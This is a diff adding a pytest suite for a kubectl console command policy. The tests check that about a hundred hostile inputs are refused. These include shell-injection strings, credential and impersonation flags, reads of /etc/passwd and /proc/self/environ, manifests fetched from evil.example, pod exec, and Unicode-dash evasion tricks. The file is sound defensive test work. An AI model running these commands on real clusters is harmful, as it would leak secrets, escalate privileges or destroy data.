@@ -1,0 +1,176 @@
+"""The console policy is a pure function: these inputs are decided without running anything."""
+
+import pytest
+
+from labs.console import runner
+from labs.console.policy import CommandRefused, check_command
+
+HOSTILE = [
+    # shell syntax
+    "kubectl get pods; rm -rf /",
+    "kubectl get pods && kubectl delete pods --all",
+    "kubectl get pods | grep web",
+    "kubectl get pods || true",
+    "kubectl get pods & sleep 100",
+    "kubectl get pods > /tmp/out",
+    "kubectl apply -f - < /etc/passwd",
+    "kubectl get pods $(cat /etc/passwd)",
+    "kubectl get pods `id`",
+    'kubectl get pods "$(id)"',
+    "kubectl get pods ${HOME}",
+    "kubectl get pods -n $NAMESPACE",
+    "kubectl get pods\nkubectl config view",
+    "kubectl get pods\u200b --token=x",
+    "(kubectl get pods)",
+    # not kubectl at all
+    "rm -rf /",
+    "bash -c 'kubectl get pods'",
+    "/usr/bin/kubectl get pods",
+    "./kubectl get pods",
+    "sh",
+    # credentials and targets, in every spelling
+    "kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf",
+    "kubectl get pods --kubeconfig /root/.kube/config",
+    "kubectl --server=https://10.0.0.1:6443 get pods",
+    "kubectl get pods --server https://evil.example",
+    "kubectl get pods -s https://evil.example",
+    "kubectl get pods -s=https://evil.example",
+    "kubectl get pods -shttps://evil.example",
+    "kubectl get pods -As https://evil.example",
+    "kubectl get pods --token=abc",
+    "kubectl get pods --token abc",
+    "kubectl get pods --TOKEN=abc",
+    "kubectl get pods \uff0d\uff0dtoken=abc",  # full-width hyphens and letters
+    "kubectl get pods \u2013-token=abc",  # en dash
+    "kubectl get pods --as=system:admin",
+    "kubectl get pods --as system:serviceaccount:kube-system:default",
+    "kubectl get pods --as-group=system:masters",
+    "kubectl get pods --as-uid=0",
+    "kubectl get pods --context=admin",
+    "kubectl get pods --cluster=other",
+    "kubectl get pods --user=admin",
+    "kubectl get pods --insecure-skip-tls-verify",
+    "kubectl get pods --certificate-authority=/etc/ca.crt",
+    "kubectl get pods --client-certificate=/etc/c.crt --client-key=/etc/c.key",
+    "kubectl get pods --username=admin --password=secret",
+    "kubectl get pods --cache-dir=/tmp/x",
+    "kubectl get pods -v=9",
+    "kubectl get pods --v=9",
+    "kubectl get pods --profile=cpu --profile-output=/tmp/p",
+    "kubectl get pods --log-file=/tmp/log",
+    # local files and the network
+    "kubectl apply -f https://evil.example/x.yaml",
+    "kubectl create -f /etc/passwd",
+    "kubectl create --filename=/etc/passwd",
+    "kubectl delete -k https://github.com/x/y",
+    "kubectl get pods -o jsonpath-file=/etc/passwd",
+    "kubectl get pods -ogo-template-file=/etc/passwd",
+    "kubectl get pods --output=custom-columns-file=/etc/passwd",
+    "kubectl get pods --output template-file=/etc/shadow",
+    "kubectl create secret generic s --from-file=/etc/passwd",
+    "kubectl create configmap c --from-env-file=/proc/self/environ",
+    "kubectl create secret tls t --cert=/etc/ssl/a.crt --key=/etc/ssl/a.key",
+    "kubectl patch deploy web --patch-file=/etc/passwd",
+    "kubectl get --raw https://evil.example/",
+    "kubectl cluster-info dump --output-directory=/tmp/dump",
+    # forbidden subcommands
+    "kubectl proxy",
+    "kubectl port-forward svc/web 8080:80",
+    "kubectl cp web-0:/etc/passwd /tmp/p",
+    "kubectl attach web-0",
+    "kubectl exec -it web-0 -- sh",
+    "kubectl exec web-0 -- cat /etc/passwd",
+    "kubectl edit deployment web",
+    "kubectl debug web-0",
+    "kubectl config view --raw",
+    "kubectl plugin list",
+    "kubectl krew install evil",
+    "kubectl evil-plugin",
+    "kubectl Config view",
+    "kubectl kustomize https://github.com/x/y",
+    "kubectl apply view-last-applied deploy/web",
+    "kubectl completion bash",
+    "kubectl rollout bogus deploy/web",
+    "kubectl set subject rolebinding x --user=admin",
+    "kubectl auth reconcile -f x.yaml",
+    # interactive or never-ending
+    "kubectl run t --image=busybox -it -- sh",
+    "kubectl run t --image=busybox --stdin --tty",
+    "kubectl run t --image=busybox --rm --attach",
+    "kubectl get pods -w",
+    "kubectl get pods --watch",
+    "kubectl logs -f web-0",
+    "kubectl logs --follow web-0",
+    # options before the command (kubectl would resolve the command differently)
+    "kubectl --request-timeout 5 config view",
+    "kubectl -v 9 get pods",
+    # malformed
+    "",
+    "   ",
+    "kubectl",
+    "kubectl get pods 'unclosed",
+    "kubectl get " + "x" * 1200,
+    "kubectl " + " ".join(["get"] * 70),
+]
+
+
+@pytest.mark.parametrize("command", HOSTILE)
+def test_hostile_command_is_refused_with_a_korean_message(command):
+    before = runner.invocations
+    with pytest.raises(CommandRefused) as refused:
+        check_command(command)
+    message = str(refused.value)
+    assert any("\uac00" <= ch <= "\ud7a3" for ch in message), message
+    assert runner.invocations == before
+
+
+def test_there_are_at_least_thirty_hostile_inputs():
+    assert len(HOSTILE) >= 30
+
+
+@pytest.mark.parametrize(
+    ("command", "args"),
+    [
+        ("kubectl get pods", ["get", "pods"]),
+        ("get pods -o wide", ["get", "pods", "-o", "wide"]),
+        ("kubectl -n web get pods", ["-n", "web", "get", "pods"]),
+        ("kubectl get pods -l 'app in (web,api)'", ["get", "pods", "-l", "app in (web,api)"]),
+        (
+            "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
+            ["get", "pods", "-o", "jsonpath={.items[*].metadata.name}"],
+        ),
+        ("kubectl create deployment web --image=nginx:1.27 --replicas=2", None),
+        ("kubectl scale deployment web --replicas=3", None),
+        ("kubectl set image deployment/web nginx=nginx:1.28", None),
+        ("kubectl rollout undo deployment/web", None),
+        ("kubectl rollout status deployment/web --timeout=15s", None),
+        ("kubectl create secret generic db --from-literal=password='p;a|s&s'", None),
+        ("kubectl annotate deploy web docs=https://example.com/guide", None),
+        ("kubectl get --raw /healthz", None),
+        ("kubectl auth can-i create deployments", None),
+        ("kubectl run busy --image=busybox -- sleep 3600", None),
+        ("kubectl expose deployment web --port=80 --target-port=8080", None),
+        ("kubectl describe pod web-0 # the first replica", ["describe", "pod", "web-0"]),
+        ("kubectl get pods -oyaml", None),
+        ("kubectl logs web-0 -c nginx", None),
+        ("kubectl explain deployment.spec.strategy", None),
+        ("kubectl top pods", None),
+        ("kubectl cluster-info", None),
+        ("kubectl label pods web-0 tier=frontend --overwrite", None),
+    ],
+)
+def test_ordinary_commands_are_allowed(command, args):
+    result = check_command(command)
+    if args is not None:
+        assert result == args
+    assert result[0] != "kubectl"
+
+
+def test_quoted_shell_characters_are_literal_like_in_a_shell():
+    args = check_command("kubectl create configmap c --from-literal=greeting='a > b; c | d'")
+    assert args[-1] == "--from-literal=greeting=a > b; c | d"
+
+
+def test_refusal_names_the_editor_for_files():
+    with pytest.raises(CommandRefused, match="편집기"):
+        check_command("kubectl apply -f deploy.yaml")
